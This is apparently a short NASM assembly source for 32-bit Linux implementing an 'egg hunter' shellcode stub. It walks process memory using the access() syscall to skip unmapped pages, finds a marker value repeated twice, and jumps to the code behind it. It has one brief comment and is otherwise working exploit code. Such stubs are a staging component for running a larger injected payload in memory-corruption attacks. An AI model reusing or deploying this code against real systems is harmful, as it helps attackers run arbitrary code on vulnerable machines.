; Linux, 32 bit: walks through memory with access() until it finds its mark twice, then jumps behind it.
bits 32
%ifndef MARK
%define MARK 0x50905090
%endif
        xor edx, edx
page:   or dx, 0xfff
next:   inc edx
        lea ebx, [edx + 4]
        push byte 33
        pop eax
        int 80h
        cmp al, 0xf2
        je page
        mov eax, MARK
        mov edi, edx
        scasd
        jne next
        scasd
        jne next
        jmp edi
